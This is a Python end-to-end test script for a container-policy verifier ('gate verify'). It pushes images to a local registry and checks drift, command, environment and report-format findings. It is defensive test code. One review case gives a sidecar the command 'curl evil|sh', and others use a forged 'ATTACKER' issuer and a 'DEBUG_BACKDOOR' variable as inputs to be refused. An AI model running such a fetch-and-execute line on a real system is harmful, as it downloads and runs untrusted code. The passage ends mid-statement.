#!/usr/bin/env python3
"""End-to-end tests of `gate verify`: one scenario per run.

    verifytest.py SCENARIO --gate BIN --vectors DIR --fixtures DIR

Each scenario starts Debian's docker-registry on 127.0.0.1 (the registry
tests' harness, tests/registry/regtest.py), pushes images built from layer
files with a real image config (Entrypoint, Cmd, Env, WorkingDir), writes
ARM templates whose ccePolicy is in confcom's format (confcom.py), runs
gate verify, and checks the exit status, the verdicts and the findings of
the JSON report, which must also validate against the report's schema.
"""
import argparse
import http.client
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "registry"))
import regtest  # noqa: E402
from regtest import Registry, Pusher, check, log, sha256  # noqa: E402
import confcom  # noqa: E402

FIXTURES = None
SCHEMA = None
BASE = ["basic_tree", "implicit_parents"]      # two small vector layers


def layer_from_tar(tar_bytes, name):
    """A gzip layer of these tar bytes, with its root hash from gate hash --tar."""
    import gzip
    blob = gzip.compress(tar_bytes, mtime=0)
    path = os.path.join(regtest.TMP, "%s.tar.gz" % name)
    with open(path, "wb") as f:
        f.write(blob)
    r = subprocess.run([regtest.GATE, "hash", "--tar", "--format", "json", path],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=True)
    return {"name": name, "blob": blob, "diff_id": sha256(tar_bytes),
            "media_type": regtest.LAYER_TYPES[("oci", "gzip")],
            "root": json.loads(r.stdout)["layers"][0]}


def vector_layer(name):
    l = regtest.make_layer(name)
    l["root"] = regtest.tar_hashes([name])[0]
    return l


def web_layer(page):
    """The app layer of the seed story: a web root with one index.html."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        d = tarfile.TarInfo("srv/www")
        d.type, d.mode, d.mtime = tarfile.DIRTYPE, 0o755, 1700000000
        t.addfile(d)
        data = page.encode()
        f = tarfile.TarInfo("srv/www/index.html")
        f.size, f.mode, f.mtime = len(data), 0o644, 1700000000
        t.addfile(f, io.BytesIO(data))
    return layer_from_tar(buf.getvalue(), "web-%s" % sha256(page.encode())[7:19])


APP_CONFIG = {"Entrypoint": ["/bin/httpd"], "Cmd": ["-f", "-h", "/srv/www"],
              "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
              "WorkingDir": "/srv/www"}


def push(p, repo, tag, layers, config=None):
    """Pushes an image whose config carries config; returns its digest."""
    cfg = {"architecture": "amd64", "os": "linux", "config": dict(config or APP_CONFIG),
           "rootfs": {"type": "layers", "diff_ids": [l["diff_id"] for l in layers]}}
    cfg_b = json.dumps(cfg, sort_keys=True).encode()
    man = {"schemaVersion": 2, "mediaType": regtest.MT_OCI_MANIFEST,
           "config": {"mediaType": regtest.MT_OCI_CONFIG, "digest": sha256(cfg_b), "size": len(cfg_b)},
           "layers": [{"mediaType": l["media_type"], "digest": sha256(l["blob"]), "size": len(l["blob"])}
                      for l in layers]}
    for l in layers:
        p.blob(repo, l["blob"])
    p.blob(repo, cfg_b)
    man_b = json.dumps(man).encode()
    return p.manifest(repo, tag, man_b, regtest.MT_OCI_MANIFEST)


def write_template(name, groups):
    path = os.path.join(regtest.TMP, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        json.dump(confcom.arm_template(groups), f, indent=2)
    return path


def verify(args, host=None, want=None, cache=False):
    """Runs gate verify --format json; returns (status, report, stderr)."""
    cmd = [regtest.GATE, "verify", "--format", "json"]
    if host:
        cmd += ["--insecure-registry", host]
    if not cache:
        cmd += ["--no-cache"]
    r = subprocess.run(cmd + args, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       env=regtest.gate_env(), timeout=600)
    err = r.stderr.decode()
    log("$ gate verify %s -> %d%s" % (" ".join(args), r.returncode,
                                      ("\n  stderr: " + err.strip()) if err.strip() else ""))
    check("Sanitizer" not in err and "runtime error" not in err, "sanitizer report:\n" + err)
    check(r.returncode in (0, 1, 2, 3), "exit status %d" % r.returncode)
    report = None
    if r.stdout.strip():
        report = json.loads(r.stdout)
        validate(report)
    if want is not None:
        check(r.returncode == want, "expected exit %d, got %d: %s\n%s" %
              (want, r.returncode, err, summary(report)))
    return r.returncode, report, err


def summary(report):
    """The verdicts and findings, compactly, for a failure message."""
    if not report:
        return "(no report)"
    lines = ["%s/%s: %s %s" % (c["group"], c.get("name"), c["verdict"], c.get("reason", ""))
             for c in report["containers"]]
    lines += ["  %s %s %s/%s: %s %s" % (f["severity"], f["rule"], f.get("group"), f.get("container"),
                                        f["message"], json.dumps(f["details"])[:400])
              for f in report["findings"]]
    return "\n".join(lines)


def validate(report):
    import jsonschema
    with open(SCHEMA) as f:
        jsonschema.validate(report, json.load(f))


def verdicts(report):
    return {(c["group"], c["name"]): c["verdict"] for c in report["containers"]}


def rules(report, severity=None):
    return sorted((f["rule"], f.get("group"), f.get("container")) for f in report["findings"]
                  if severity is None or f["severity"] == severity)


def deny_rules(report):
    return sorted({f["rule"] for f in report["findings"] if f["severity"] == "deny"})


class Setup:
    """One registry with the base layers and the app image simpleapp:v1."""

    def __init__(self):
        self.reg = Registry("reg")
        self.p = Pusher(self.reg.port)
        self.host = "127.0.0.1:%d" % self.reg.port
        self.base = [vector_layer(n) for n in BASE]
        self.web = web_layer("<h1>hello</h1>\n")
        self.app_layers = self.base + [self.web]
        self.app = self.host + "/simpleapp:v1"
        self.app_digest = push(self.p, "simpleapp", "v1", self.app_layers)

    def roots(self, layers):
        return [l["root"] for l in layers]

    def app_container(self, name="web", layers=None, config=None, env=(), command=None, image=None):
        return confcom.container(name, image or self.app, self.roots(layers or self.app_layers),
                                 config or APP_CONFIG, env, command)


# --- scenarios ----------------------------------------------------------------

def s_pass():
    """Two groups, three containers, one image used twice: admitted."""
    s = Setup()
    side_layers = [s.base[0]]
    side = s.host + "/tools/side:1.0"
    side_cfg = {"Cmd": ["/bin/sleep", "infinity"], "Env": ["PATH=/bin"]}
    push(s.p, "tools/side", "1.0", side_layers, side_cfg)
    g1 = confcom.policy([s.app_container("web"),
                         confcom.container("side", side, s.roots(side_layers), side_cfg)])
    g2 = confcom.policy([s.app_container("web2", env=[("MODE", "prod")])])
    t = write_template("t/pass.json", [
        ("front", g1, [("web", s.app, [], None), ("side", side, [], None)]),
        ("back", g2, [("web2", s.app, [("MODE", "prod")], None)])])
    rc, rep, _ = verify([t], s.host, want=0)
    check(rep["result"] == "pass", "result %s" % rep["result"])
    check(set(verdicts(rep).values()) == {"pass"} and len(rep["containers"]) == 3,
          "verdicts: %s" % verdicts(rep))
    check(rep["timings"]["images"] == 2, "two distinct images: %s" % rep["timings"])
    check(deny_rules(rep) == [], "deny findings: %s" % rules(rep))
    check(("tag.unpinned", "front", "web") in rules(rep, "warn"), "tag.unpinned warning missing")
    c = [c for c in rep["containers"] if c["name"] == "web"][0]
    check(c["digest"] == s.app_digest, "digest now: %s" % c["digest"])
    check([l["registry"] for l in c["layers"]] == s.roots(s.app_layers) and
          [l["policy"] for l in c["layers"]] == s.roots(s.app_layers), "layers: %s" % c["layers"])
    # Tampered twin: the template env value differs from the policy's
    # string rule; without dropping the guest refuses it.
    strict = confcom.policy([s.app_container("web2", env=[("MODE", "prod")])], env_dropping=False)
    t2 = write_template("t/pass-twin.json", [
        ("back", strict, [("web2", s.app, [("MODE", "dev")], None)])])
    rc, rep, _ = verify([t2], s.host, want=1)
    check("config.env" in deny_rules(rep), "MODE=dev must be refused: %s" % rules(rep))


def s_drift():
    """The seed story: simpleapp:v1 rebuilt with a hacked page, pushed over the tag."""
    s = Setup()
    pol = confcom.policy([s.app_container("web")])
    t = write_template("t/story.json", [("demo", pol, [("web", s.app, [], None)])])
    verify([t], s.host, want=0)
    hacked = web_layer("<h1>hacked</h1>\n")
    new_digest = push(s.p, "simpleapp", "v1", s.base + [hacked])
    rc, rep, _ = verify([t], s.host, want=1)
    check(verdicts(rep) == {("demo", "web"): "deny"}, "verdicts: %s" % verdicts(rep))
    drift = [f for f in rep["findings"] if f["rule"] == "layers.drift"]
    check(len(drift) == 1 and drift[0]["container"] == "web" and drift[0]["group"] == "demo",
          "one layers.drift naming demo/web: %s" % rules(rep))
    check(not [f for f in rep["findings"] if f["rule"] == "coverage.not_in_template"],
          "the drifted container's policy entry is not an orphan: %s" % rules(rep))
    pos = drift[0]["details"]["positions"]
    check(pos == [{"position": 2, "policy": s.web["root"], "registry": hacked["root"]}],
          "changed position: %s" % pos)
    check(drift[0]["details"]["digest"] == new_digest and new_digest in drift[0]["message"],
          "the tag's digest now: %s" % drift[0])
    # The text report names the container, the layer and the digest.
    r = subprocess.run([regtest.GATE, "verify", "--no-cache", "--insecure-registry", s.host, t],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=regtest.gate_env())
    out = r.stdout.decode()
    check(r.returncode == 1 and "demo/web" in out and "layers.drift" in out and
          "layer 3: policy %s" % s.web["root"][:12] in out and new_digest in out,
          "text report:\n" + out)
    check("\033[" not in out, "colour when not a terminal")


def s_command():
    """A changed CMD with the same layers: config.command."""
    s = Setup()
    pol = confcom.policy([s.app_container("web")])
    cfg = dict(APP_CONFIG, Cmd=["-f", "-h", "/tmp"])
    push(s.p, "simpleapp", "v2", s.app_layers, cfg)
    img = s.host + "/simpleapp:v2"
    t = write_template("t/cmd.json", [("demo", pol, [("web", img, [], None)])])
    rc, rep, _ = verify([t], s.host, want=1)
    check(deny_rules(rep) == ["config.command"], "findings: %s" % rules(rep))
    f = [f for f in rep["findings"] if f["rule"] == "config.command"][0]
    check("expected" in f["details"] and "actual" in f["details"], "expected/actual: %s" % f)
    # Twin: the template's command restores the policy's argv.
    t2 = write_template("t/cmd-twin.json", [("demo", pol, [
        ("web", img, [], APP_CONFIG["Entrypoint"] + APP_CONFIG["Cmd"])])])
    verify([t2], s.host, want=0)


def s_env():
    """An image Env variable no rule allows: refused, or dropped when allowed."""
    s = Setup()
    cfg = dict(APP_CONFIG, Env=APP_CONFIG["Env"] + ["DEBUG_BACKDOOR=1"])
    push(s.p, "simpleapp", "v3", s.app_layers, cfg)
    img = s.host + "/simpleapp:v3"
    strict = confcom.policy([s.app_container("web", image=img)], env_dropping=False)
    t = write_template("t/env.json", [("demo", strict, [("web", img, [], None)])])
    rc, rep, _ = verify([t], s.host, want=1)
    check(deny_rules(rep) == ["config.env"], "findings: %s" % rules(rep))
    check("DEBUG_BACKDOOR" in json.dumps(rep["findings"]), "the variable is named")
    lax = confcom.policy([s.app_container("web", image=img)], env_dropping=True)
    t = write_template("t/env-drop.json", [("demo", lax, [("web", img, [], None)])])
    rc, rep, _ = verify([t], s.host, want=0)
    check(("config.env_dropped", "demo", "web") in rules(rep, "warn"), "findings: %s" % rules(rep))


def s_order():
    """The policy lists the same layers in another order: layers.order."""
    s = Setup()
    c = s.app_container("web")
    c["layers"] = list(reversed(c["layers"]))
    t = write_template("t/order.json", [("demo", confcom.policy([c]), [("web", s.app, [], None)])])
    rc, rep, _ = verify([t], s.host, want=1)
    check(deny_rules(rep) == ["layers.order"], "findings: %s" % rules(rep))


def s_coverage():
    """A template container with no policy entry; a policy entry with no container."""
    s = Setup()
    other = s.host + "/other:1"
    push(s.p, "other", "1", [s.base[1]], {"Cmd": ["/x"]})
    pol = confcom.policy([s.app_container("web"),
                          confcom.container("ghost", s.host + "/ghost:1", ["ab" * 32], {"Cmd": ["/g"]})])
    t = write_template("t/cov.json", [("demo", pol, [("web", s.app, [], None),
                                                     ("intruder", other, [], None)])])
    rc, rep, _ = verify([t], s.host, want=1)
    check(("coverage.not_in_policy", "demo", "intruder") in rules(rep, "deny"), "findings: %s" % rules(rep))
    check(("coverage.not_in_template", "demo", None) in rules(rep, "warn"), "findings: %s" % rules(rep))
    check(verdicts(rep) == {("demo", "web"): "pass", ("demo", "intruder"): "deny"},
          "verdicts: %s" % verdicts(rep))


def s_candidates():
    """Two policy containers with the same layers, different commands."""
    s = Setup()
    a = s.app_container("web", command=["/bin/other"])
    b = s.app_container("web-alt")
    t = write_template("t/cand.json", [("demo", confcom.policy([a, b]), [("web", s.app, [], None)])])
    rc, rep, _ = verify([t], s.host, want=0)
    a2 = s.app_container("web", command=["/bin/other"])
    b2 = s.app_container("web-alt", command=["/bin/third"])
    t = write_template("t/cand-twin.json", [("demo", confcom.policy([a2, b2]), [("web", s.app, [], None)])])
    rc, rep, _ = verify([t], s.host, want=1)
    check(deny_rules(rep) == ["config.command"], "findings: %s" % rules(rep))


def s_unreachable():
    """Registry stopped: every container unverified, exit 3; with a drifted one, exit 1."""
    s = Setup()
    pol = confcom.policy([s.app_container("web")])
    t = write_template("t/down.json", [("demo", pol, [("web", s.app, [], None)])])
    s.reg.stop()
    rc, rep, _ = verify([t, "--retries", "0"], s.host, want=3)
    check(rep["result"] == "unverified" and set(verdicts(rep).values()) == {"unverified"},
          "verdicts: %s" % verdicts(rep))
    check(all(c.get("reason") for c in rep["containers"]), "unverified needs a reason")
    # One drifted (on a live registry) and one unreachable: exit 1, both listed.
    live = Registry("live")
    p = Pusher(live.port)
    lhost = "127.0.0.1:%d" % live.port
    img = lhost + "/simpleapp:v1"
    push(p, "simpleapp", "v1", s.base + [web_layer("<h1>changed</h1>")])
    pol2 = confcom.policy([s.app_container("web", image=img), s.app_container("down")])
    t2 = write_template("t/mixed.json", [("demo", pol2, [("web", img, [], None), ("down", s.app, [], None)])])
    rc, rep, _ = verify([t2, "--retries", "0", "--insecure-registry", lhost], s.host, want=1)
    check(verdicts(rep) == {("demo", "web"): "deny", ("demo", "down"): "unverified"},
          "verdicts: %s" % verdicts(rep))


def s_samples():
    """Every sample template and policy runs through verify without a crash."""
    samples = os.path.join(FIXTURES, "samples")
    for name in sorted(os.listdir(samples)):
        if name.endswith(".md") or "parameters" in name:
            continue
        args = [os.path.join(samples, name)]
        if name.endswith("arm_template.json"):
            params = os.path.join(samples, name.replace("arm_template", "parameters"))
            if os.path.exists(params):
                args += ["-p", params]
        rc, rep, err = verify(args + ["--retries", "0", "--connect-timeout", "2"])
        check(rc in (0, 1, 2, 3), "%s: exit %d" % (name, rc))
        check(rc == 2 or rep is not None, "%s: no report: %s" % (name, err))
        if rep:
            for c in rep["containers"]:
                check(c["verdict"] != "pass" or c["digest"], "%s: pass without a digest: %s" % (name, c))


def s_directory():
    """20 templates sharing 5 images: each layer is downloaded once."""
    s = Setup()
    images = []
    for i in range(5):
        layers = [s.base[i % 2], web_layer("<p>app %d</p>" % i)]
        push(s.p, "fleet/app%d" % i, "v1", layers)
        images.append((s.host + "/fleet/app%d:v1" % i, layers))
    d = os.path.join(regtest.TMP, "fleet")
    for t in range(20):
        img, layers = images[t % 5]
        pol = confcom.policy([s.app_container("c", layers=layers, image=img)])
        write_template("fleet/t%02d.json" % t, [("g%02d" % t, pol, [("c", img, [], None)])])
    with open(os.path.join(d, "README.txt"), "w") as f:
        f.write("not a template\n")
    before = s.reg.blob_gets()
    rc, rep, err = verify([d], s.host, want=0)
    check(len(rep["containers"]) == 20 and len(rep["inputs"]) == 20, "20 templates: %s" % rep["inputs"])
    distinct_layers = 2 + 5
    configs = 5
    got = s.reg.blob_gets() - before
    check(got == distinct_layers + configs, "blob GETs: %d, want %d layers + %d configs" %
          (got, distinct_layers, configs))
    check("README.txt" in err, "the skipped file is noted: %s" % err)


def s_reports():
    """--audit, --rules, and one run writing text, JSON, SARIF and JUnit."""
    s = Setup()
    pol = confcom.policy([s.app_container("web")])
    t = write_template("t/story.json", [("demo", pol, [("web", s.app, [], None)])])
    push(s.p, "simpleapp", "v1", s.base + [web_layer("<h1>hacked</h1>")])
    rc, drifted, _ = verify([t], s.host, want=1)
    rc, audited, _ = verify([t, "--audit"], s.host, want=0)
    check(rules(audited) == rules(drifted) and audited["result"] == "fail",
          "--audit keeps the findings: %s" % rules(audited))
    # A rule set: tag.unpinned denies, layers.drift only warns.
    rs = os.path.join(regtest.TMP, "rules.yaml")
    with open(rs, "w") as f:
        f.write("rules:\n  tag.unpinned: deny\n  layers.drift: warn\n")
    rc, rep, _ = verify([t, "--rules", rs], s.host, want=1)
    check(deny_rules(rep) == ["tag.unpinned"] and ("layers.drift", "demo", "web") in rules(rep, "warn"),
          "rule set severities: %s" % rules(rep))
    with open(rs, "w") as f:
        f.write("rules:\n  tag.unpinned: block\n")
    rc, rep, err = verify([t, "--rules", rs], s.host, want=2)
    check("rules.yaml:2" in err, "a bad rule file names its line: %s" % err)
    # One run, every format to its own file; stdout stays empty.
    out = {f: os.path.join(regtest.TMP, "report." + f) for f in ("json", "sarif", "junit", "text")}
    cmd = [regtest.GATE, "verify", "--no-cache", "--insecure-registry", s.host, t] + \
        sum([["-o", "%s=%s" % (f, p)] for f, p in out.items()], [])
    r = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=regtest.gate_env())
    check(r.returncode == 1 and not r.stdout, "exit %d, stdout %r" % (r.returncode, r.stdout[:200]))
    rep = json.load(open(out["json"]))
    validate(rep)
    sarif = json.load(open(out["sarif"]))
    import jsonschema
    with open(os.path.join(os.path.dirname(SCHEMA), "..", "tests", "report", "sarif-2.1.0.json")) as f:
        jsonschema.validate(sarif, json.load(f))
    results = sorted((x["ruleId"], x["level"]) for x in sarif["runs"][0]["results"])
    want = sorted((f["rule"], "error" if f["severity"] == "deny" else "warning") for f in rep["findings"])
    check(results == want, "SARIF results %s, JSON findings %s" % (results, want))
    import xml.etree.ElementTree as ET
    cases = ET.parse(out["junit"]).getroot().findall(".//testcase")
    check(len(cases) == 1 and cases[0].find("failure") is not None, "JUnit: one failing testcase")
    check("layers.drift" in open(out["text"]).read() and "\033[" not in open(out["text"]).read(),
          "text report file, without colour")


def s_locations():
    """SARIF, JSON and JUnit point at the line and column where each
    container's object starts (its group's for group findings, and for a
    container a variable builds), in an ARM template, its CRLF twin and an
    ACI YAML twin; found here by Python's own parsers
    (tests/input/check_positions.py)."""
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "input"))
    import base64
    import xml.etree.ElementTree as ET
    import yaml
    import check_positions as cp
    s = Setup()
    pol = confcom.policy([s.app_container("web"), s.app_container("api")])
    groups = [("front", pol, [("web", s.app, [], None), ("api", s.app, [], None)]),
              ("nopolicy", None, [("lone", s.app, [], None)])]
    tmpl = confcom.arm_template(groups)
    built = {"name": "built", "properties": {"image": s.app}}
    tmpl["variables"] = {"cs": [built]}
    tmpl["resources"].append({"type": "Microsoft.ContainerInstance/containerGroups", "name": "fromvar",
                              "properties": {"sku": "Confidential", "containers": "[variables('cs')]"}})
    arm = os.path.join(regtest.TMP, "t", "locations.json")
    os.makedirs(os.path.dirname(arm), exist_ok=True)
    with open(arm, "w") as f:
        json.dump(tmpl, f, indent=2)
    with open(arm, "rb") as f:
        data = f.read()
    crlf = os.path.join(regtest.TMP, "t", "locations-crlf.json")
    with open(crlf, "wb") as f:
        f.write(data.replace(b"\n", b"\r\n"))
    docs = []
    for g in confcom.arm_template(groups)["resources"]:
        ccp = g["properties"].pop("confidentialComputeProperties", None)
        if ccp:
            g["properties"]["confidentialComputeProperties"] = {"ccePolicy": ccp["ccePolicy"]}
        g.pop("location")
        docs.append(g)
    aci = os.path.join(regtest.TMP, "t", "locations.yaml")
    with open(aci, "w") as f:
        yaml.safe_dump_all(docs, f, explicit_start=True)
    for path in (arm, crlf, aci):
        text = open(path, "rb").read().decode()
        want = {}
        if path.endswith(".json"):
            res = cp.parse_json(text)["resources"]
        else:
            res = list(yaml.load_all(text, Loader=cp.PosLoader))
        for g in res:
            want[(g["name"], None)] = g.pos
            ctrs = g["properties"]["containers"]
            for c in [built] if ctrs == "[variables('cs')]" else ctrs:
                want[(g["name"], c["name"])] = getattr(c, "pos", g.pos)
        out = {f: os.path.join(regtest.TMP, "loc." + f) for f in ("json", "sarif", "junit")}
        cmd = [regtest.GATE, "verify", "--no-cache", "--insecure-registry", s.host, path] + \
            sum([["-o", "%s=%s" % (f, p)] for f, p in out.items()], [])
        r = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=regtest.gate_env())
        err = r.stderr.decode()
        check(r.returncode == 1 and "Sanitizer" not in err and "runtime error" not in err,
              "%s: exit %d: %s" % (path, r.returncode, err))
        rep = json.load(open(out["json"]))
        validate(rep)
        results = json.load(open(out["sarif"]))["runs"][0]["results"]
        kinds = sorted({(x["ruleId"], x["properties"].get("container") is None) for x in results})
        check(("tag.unpinned", False) in kinds and ("policy.missing", True) in kinds,
              "%s: container and group findings: %s" % (path, kinds))
        for x, f in zip(results, rep["findings"]):
            key = (x["properties"]["group"], x["properties"].get("container"))
            loc = x["locations"][0]["physicalLocation"]
            got = (loc["region"]["startLine"], loc["region"]["startColumn"])
            check(got == want[key] == (f["line"], f["column"]),
                  "%s: %s %s at %s, JSON %s, want %s" % (path, x["ruleId"], key, got,
                                                         (f["line"], f["column"]), want[key]))
            check(loc["artifactLocation"]["uri"] == "file://" + path,
                  "an absolute path is a file: URI: %s" % loc["artifactLocation"]["uri"])
        for tc in ET.parse(out["junit"]).getroot().iter("testcase"):
            key = (tc.get("classname").rsplit("/", 1)[1], tc.get("name"))
            key = (key[0], None) if key[1] == "(policy)" else key
            check(tc.get("line") == str(want[key][0]) and tc.get("file") == path,
                  "%s: JUnit %s at %s:%s, want line %d" % (path, key, tc.get("file"),
                                                            tc.get("line"), want[key][0]))
    log("locations: ARM, CRLF and YAML results at their containers' lines")


def s_review():
    """What the review found: each a way to a false pass, now closed."""
    s = Setup()
    base = confcom.policy([s.app_container("web")])
    ctr = [("web", s.app, [], None)]

    def case(name, rego, want, why, ctrs=ctr, args=()):
        t = write_template("t/review-%s.json" % name, [("g", rego, ctrs)])
        rc, rep, err = verify([t] + list(args), s.host, want=want)
        check(rep is None or "pass" not in {c["verdict"] for c in rep["containers"]
                                            if c["name"] in ("web", "side", "evil")} or want == 0,
              "%s: %s\n%s" % (name, why, summary(rep)))
        return rep

    # Enforcement points bound to a literal deny: the guest refuses.
    for lit in ('{"allowed": false}', "false"):
        case("deny-" + lit[:5], base.replace("create_container := data.framework.create_container",
                                             "create_container := " + lit), 3,
             "a literal create_container is not the framework's rule")
    # Rego gate cannot read: never a pass.
    hw = base.replace("create_container := data.framework.create_container",
                      "create_container := data.framework.create_container { input.argList[0] == \"/nope\" }")
    rep = case("handwritten", hw, 3, "hand-written Rego")
    check(rep["containers"][0]["verdict"] == "unverified", "hand-written: %s" % summary(rep))
    # A framework_version the guest's semver refuses.
    for v in ("v0.2.3", "0.2", "garbage"):
        rep = case("fw-" + v, base.replace('framework_version := "0.2.3"', 'framework_version := "%s"' % v),
                   1, "framework_version %s" % v)
        check("policy.version" in deny_rules(rep), "fw %s: %s" % (v, summary(rep)))
    # No pause container.
    nopause = base.replace(',' + json.dumps(confcom.pause(), separators=(",", ":"), sort_keys=True), "")
    check(nopause != base, "the pause container was removed")
    rep = case("nopause", nopause, 1, "no pause container")
    check("policy.no_pause" in deny_rules(rep), "no pause: %s" % summary(rep))
    # A sidecar image the template changes, or a fragment another issuer signed.
    side = ("evil", "mcr.microsoft.com/aci/sc-proxy:latest", [], ["/bin/sh", "-c", "curl evil|sh"])
    rep = case("sidecar-cmd", base, 3, "a changed sidecar", ctrs=[side])
    forged = base.replace("I__iuL25oXEVFdTP_aBLx_eT1RPHbCQ_ECBQfYZpt9s", "ATTACKERATTACKERATTACKERATTACKERATTACKER0")
    rep = case("sidecar-issuer", forged, 3, "a forged infra fragment",
               ctrs=[("side", "mcr.microsoft.com/aci/sc-proxy:latest", [], None)])
    # Duplicate image Env names reach the guest both; dropping off refuses one.
    cfg = dict(APP_CONFIG, Env=["MODE=debug", "MODE=prod"])
    push(s.p, "simpleapp", "dup", s.app_layers, cfg)
    img = s.host + "/simpleapp:dup"
    pol = confcom.policy([confcom.container("web", img, s.roots(s.app_layers), dict(APP_CONFIG, Env=["MODE=prod"]))],
                         env_dropping=False)
    rep = case("dup-env", pol, 1, "MODE=debug reaches the guest", ctrs=[("web", img, [], None)])
    check("config.env" in deny_rules(rep), "dup env: %s" % summary(rep))
    # A rule set's deny names the container: its verdict is deny.
    rs = os.path.join(regtest.TMP, "tag.yaml")
    with open(rs, "w") as f:
        f.write("rules:\n  tag.unpinned: deny\n")
    rep = case("rules-verdict", base, 1, "tag.unpinned denies", args=["--rules", rs])
    check(rep["containers"][0]["verdict"] == "deny", "verdict follows findings: %s" % summary(rep))
    # The admitting candidate is named; the other matched one is no orphan.
    a, b = s.app_container("web", command=["/bin/other"]), s.app_container("web-alt")
    rep = case("cand-name", confcom.policy([a, b]), 0, "either candidate admits")
    check(rep["containers"][0]["policy_container"] == "web-alt" and
          not [f for f in rep["findings"] if f["rule"] == "coverage.not_in_template"],
          "admitting candidate: %s" % summary(rep))
    # --help as an option's value is a value.
    r = subprocess.run([regtest.GATE, "verify", "--no-cache", "x.json", "--rules", "--help"],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=regtest.gate_env())
    check(r.returncode == 2 and not r.stdout, "--rules --help: exit %d" % r.returncode)
    # A directory scan reads hidden directories, escaped slashes and upper-case names.
    d = os.path.join(regtest.TMP, "scan")
    for rel in (".azure/hidden.json", "UPPER.JSON", "escaped.json"):
        path = os.path.join(d, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        doc = json.dumps(confcom.arm_template([("g-" + rel.replace("/", "-"), None, ctr)]))
        if rel == "escaped.json":
            doc = doc.replace("Microsoft.ContainerInstance/containerGroups",
                              "Microsoft.ContainerInstance\\/containerGroups")
        with open(path, "w") as f:
            f.write(doc)
    rc, rep, err = verify([d], s.host, want=1)
    check(len(rep["inputs"]) == 3, "three templates read: %s %s" % (rep["inputs"], err))
    # Reports written with -o are readable like any file of the user's.
    out = os.path.join(regtest.TMP, "r.json")
    rc, _, _ = verify([write_template("t/ok.json", [("g", base, ctr)]), "-o", out], s.host)
    mask = os.umask(0)
    os.umask(mask)
    check(os.path.exists(out) and os.stat(out).st_mode & 0o777 == 0o666 & ~mask,
          "report mode %s, rc %d" % (oct(os.stat(out).st_mode) if os.path.exists(out) else None, rc))
def s_shards():
    """--shard I/4 over a directory: the four reports cover each group exactly once."""
    s = Setup()
    pol = confcom.policy([s.app_container("web")])
    d = os.path.join(regtest.TMP, "many")
    for t in range(12):
        write_template("many/t%02d.json" % t, [("g%02d-%d" % (t, k), pol, [("web", s.app, [], None)])
                                               for k in range(t % 3 + 1)])
    rc, whole, _ = verify([d], s.host, want=0)
    groups = lambda rep: [(g["file"], g["name"]) for g in rep["groups"]]
    seen = []
    for i in range(4):
        rc, rep, _ = verify([d, "--shard", "%d/4" % i], s.host, want=0)
        check({c["group"] for c in rep["containers"]} <= {g["name"] for g in rep["groups"]},
              "shard %d: containers only of its own groups" % i)
        check(set(rep["inputs"]) == {f for f, _ in groups(rep)},
              "shard %d: inputs are the files with a group in it: %s" % (i, rep["inputs"]))
        seen += groups(rep)
    check(len(groups(whole)) == 24, "24 groups in all: %d" % len(groups(whole)))
    check(sorted(seen) == sorted(groups(whole)),
          "the shards cover each group once: %d seen, %d distinct, %d in all" %
          (len(seen), len(set(seen)), len(groups(whole))))
    for bad in ("4/4", "1/0", "-1/4", "1", "a/b", "1/4x"):
        verify([d, "--shard", bad], s.host, want=2)


def paged_tags(upstream):
    """A Proxy hook: tags/list two tags a page, the next page in a Link header
    (Debian's registry 2.8 sends every tag at once)."""
    import urllib.parse

    def hook(h, body):
        u = urllib.parse.urlsplit(h.path)
        if not u.path.endswith("/tags/list"):
            return False
        last = urllib.parse.parse_qs(u.query).get("last", [""])[0]
        c = http.client.HTTPConnection("127.0.0.1", upstream, timeout=60)
        c.request("GET", u.path)
        tags = sorted(json.loads(c.getresponse().read())["tags"])
        c.close()
        page = [t for t in tags if t > last][:2]
        data = json.dumps({"name": u.path[4:-len("/tags/list")], "tags": page}).encode()
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        if page and page[-1] != tags[-1]:
            h.send_header("Link", '<%s?n=2&last=%s>; rel="next"' % (u.path, page[-1]))
        h.send_header("Content-Length", str(len(data)))
        h.end_headers()
        h.wfile.write(data)
        return True
    return hook


def s_history():
    """The seed story with a cache: the drift finding names the digest the policy was made for."""
    s = Setup()
    cache = os.path.join(regtest.TMP, "cache")
    pol = confcom.policy([s.app_container("web")])
    t = write_template("t/story.json", [("demo", pol, [("web", s.app, [], None)])])
    verify([t, "--cache", cache], s.host, want=0, cache=True)
    hacked = web_layer("<h1>hacked</h1>\n")
    new_digest = push(s.p, "simpleapp", "v1", s.base + [hacked])
    rc, rep, _ = verify([t, "--cache", cache], s.host, want=1, cache=True)
    drift = [f for f in rep["findings"] if f["rule"] == "layers.drift"]
    check(len(drift) == 1, "one layers.drift: %s" % rules(rep))
    d = drift[0]["details"]
    check(d.get("policy_digest") == s.app_digest and d.get("tag") == "v1" and
          d.get("still_served") is True and d.get("seen_at", "").endswith("Z") and d["digest"] == new_digest,
          "the history names the old digest, still served: %s" % d)
    check(s.app_digest in drift[0]["message"] and "seen at this tag on" in drift[0]["message"] and
          "still served" in drift[0]["message"], "message: %s" % drift[0]["message"])
    # gate history lists both runs' digests, newest last.
    r = subprocess.run([regtest.GATE, "history", "--cache", cache, "--format", "json", s.app],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=regtest.gate_env())
    check(r.returncode == 0, "gate history: %d %s" % (r.returncode, r.stderr.decode()))
    h = json.loads(r.stdout)
    check([e["digest"] for e in h["entries"]] == [s.app_digest, new_digest] and
          h["entries"][0]["layers"] == s.roots(s.app_layers) and h["reference"] == s.app,
          "gate history --format json: %s" % h)
    r = subprocess.run([regtest.GATE, "history", "--cache", cache, s.app],
